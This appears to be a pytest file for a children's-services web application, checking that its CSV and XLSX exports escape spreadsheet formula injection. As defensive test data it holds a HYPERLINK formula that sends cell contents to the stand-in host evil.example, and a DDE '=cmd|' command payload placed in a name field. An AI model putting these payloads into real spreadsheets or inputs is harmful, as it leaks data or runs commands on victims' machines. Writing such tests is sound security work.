"""Spreadsheet formula injection: typed text never reaches an export as a formula (OWASP)."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from iro.exports import escape_cell, xlsx_bytes
from tests.iro.factories import AllocationFactory, ChildFactory
from tests.protection.factories import plan_from_icpc
from tests.reviews.factories import at, booked_review
from tests.reviews.test_schedule import monday

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "typed, expected",
    [
        ("=1+2", "'=1+2"),
        ("+44 121", "'+44 121"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("Jamie", "Jamie"),
        ("O'Neil = friend", "O'Neil = friend"),
        (None, ""),
        (7, 7),
        (date(2025, 1, 2), date(2025, 1, 2)),
    ],
)
def test_escape_cell(typed, expected):
    assert escape_cell(typed) == expected


def test_xlsx_text_cells_are_strings_never_formulas():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("S", [[PAYLOAD, 3]])]))).active
    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].value == "'" + PAYLOAD
    assert sheet["B1"].value == 3


def test_cp_plan_exports_escape_a_childs_name(login, team_manager, iro_allocated):
    child = ChildFactory(first_name=PAYLOAD, last_name="Smith", la_child_id="@C1")
    AllocationFactory(child=child, iro=iro_allocated)
    plan_from_icpc(child, iro_allocated, held_on=date(2025, 5, 1))
    client = login(team_manager)
    url = reverse("protection:plan_list")
    response = client.get(url, {"on": "2025-06-30", "export": "csv"})
    assert "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][:2] == ["'@C1", f"'{PAYLOAD} Smith"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    response = client.get(url, {"on": "2025-06-30", "export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    name = sheet.cell(row=3, column=2)
    assert name.data_type == "s" and name.value == f"'{PAYLOAD} Smith"
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_schedule_csv_escapes_a_chairs_name(login, team_manager, iro_allocated):
    iro_allocated.first_name = "=cmd|' /C calc'!A0"
    iro_allocated.save()
    booked_review(chair=iro_allocated, starts_at=at(monday(), 10))
    response = login(team_manager).get(reverse("reviews:schedule_csv") + "?team=all")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(rows) == 2
    assert rows[1][3] == "'=cmd|' /C calc'!A0 Adeyemi"
